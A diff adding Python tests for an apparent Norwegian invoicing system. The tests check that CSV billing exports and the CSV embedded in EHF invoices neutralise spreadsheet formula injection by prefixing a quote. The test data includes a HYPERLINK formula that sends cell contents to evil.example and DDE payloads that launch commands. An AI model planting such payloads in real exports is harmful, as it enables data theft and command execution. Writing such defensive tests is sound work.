@@ -1,0 +1,133 @@
+"""Names a hostile or merely unusual register can hold: no formula reaches a spreadsheet from the
+CSV basis (issue 10, item 9), and every letter of a Norwegian name, Sámi ones included, reaches
+the PDF (item 8)."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from lxml import etree
+
+from periodyear.documents.basis_csv import basis_csv
+from periodyear.documents.publisher import documents
+from periodyear.domain.basis import BasisRow, basis_rows
+from periodyear.domain.calendar import Period
+from periodyear.domain.catalog import load_catalog
+from periodyear.domain.invoice import Invoice, compose_invoice
+from periodyear.domain.meters import Meter
+from periodyear.domain.tenant import Client, Subscription, TenantAccount
+from periodyear.domain.usage import UsageRecord
+from periodyear_local.template import sample_seller
+from tests.conftest import WORKED_EXAMPLE_CATALOG
+
+SELLER = sample_seller()
+MARCH = Period.parse_month("2022-03")
+HOSTILE = {
+    "h1": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
+    "h2": "+1+cmd|' /C calc'!A0",
+    "h3": "-2+3",
+    "h4": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "h5": "\t=1+1",
+    "h6": "\r=1+1",
+    "h7": "Vanlig Bakeri AS",
+}
+CSV_INJECTION_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def march_invoice(client_ids: list[str]) -> Invoice:
+    draft = compose_invoice(
+        tenant_id="t1",
+        subscription=Subscription("KOMPLETT", date(2022, 3, 1)),
+        period=MARCH,
+        usage=[UsageRecord(Meter.PERIOD_ACTIVE_CLIENTS, c, date(2022, 3, 2)) for c in client_ids],
+        catalog=load_catalog(WORKED_EXAMPLE_CATALOG),
+        issue_date=MARCH.end,
+    )
+    assert draft is not None
+    return Invoice(7, draft)
+
+
+def firm(
+    clients: dict[str, Client], *, name: str = "Fjord Regnskap AS", language: str = "nb"
+) -> TenantAccount:
+    return TenantAccount(
+        "t1", name, "999999999", language, Subscription("KOMPLETT", date(2022, 3, 1)), clients
+    )
+
+
+def cells(document: bytes, language: str) -> list[list[str]]:
+    text = document.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if language == "nb" else ","))
+
+
+# ---------------------------------------------------------------- item 9: no formula injection
+
+
+@pytest.mark.parametrize("language", ["nb", "en"])
+def test_client_names_that_start_a_formula_are_neutralised_with_a_quote(language: str) -> None:
+    # Given clients whose names would start a formula in a spreadsheet
+    clients = {cid: Client(cid, name, "911111111", False) for cid, name in HOSTILE.items()}
+    issued = march_invoice(list(clients))
+    # When the basis is written as CSV
+    rows = cells(basis_csv(basis_rows(issued.draft, clients), language), language)
+    # Then each such name is one text cell with a single quote in front, the rest as they were
+    names = {row[0]: row[1] for row in rows[1:] if row[0]}
+    for client_id, name in HOSTILE.items():
+        expected = "'" + name if name.startswith(CSV_INJECTION_LEADS) else name
+        assert names[client_id] == expected
+    for row in rows[1:]:
+        assert not any(cell.startswith(CSV_INJECTION_LEADS) for cell in row[:6]), row
+
+
+def test_ids_codes_and_descriptions_are_text_cells_too() -> None:
+    row = BasisRow(
+        client_id="=cmd|' /C calc'!A0",
+        client_name="@evil",
+        org_number="+4791111111",
+        is_bureau_client=False,
+        code="-code",
+        description="=1+1",
+        quantity=1,
+        amount=Decimal("10.00"),
+        vat=Decimal("2.50"),
+        total=Decimal("12.50"),
+    )
+    ((client_id, name, org, _, code, description, *_),) = cells(basis_csv([row], "nb"), "nb")[1:]
+    assert (client_id, name, org, code) == ("'=cmd|' /C calc'!A0", "'@evil", "'+4791111111", "'-code")
+    assert description == "'=1+1"
+
+
+@pytest.mark.parametrize(
+    ("language", "written"),
+    [("nb", ("-3", "-10,00", "-2,50", "-12,50")), ("en", ("-3", "-10.00", "-2.50", "-12.50"))],
+)
+def test_negative_amounts_stay_numbers(language: str, written: tuple[str, ...]) -> None:
+    row = BasisRow(
+        "c1",
+        "Bakeri AS",
+        "911111111",
+        False,
+        "period_active_clients",
+        "Aktive klienter",
+        -3,
+        Decimal("-10.00"),
+        Decimal("-2.50"),
+        Decimal("-12.50"),
+    )
+    (cells_of_row,) = cells(basis_csv([row], language), language)[1:]
+    assert tuple(cells_of_row[6:]) == written
+
+
+def test_the_ehf_attachment_is_the_same_neutralised_csv() -> None:
+    clients = {cid: Client(cid, name, "911111111", False) for cid, name in HOSTILE.items()}
+    issued = march_invoice(list(clients))
+    made = documents(issued, firm(clients), SELLER)
+    ns = {"cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"}
+    (attachment,) = etree.fromstring(made["xml"]).findall(".//cbc:EmbeddedDocumentBinaryObject", ns)
+    assert base64.b64decode(attachment.text or "") == made["csv"]
+    assert b"'=HYPERLINK" in made["csv"]
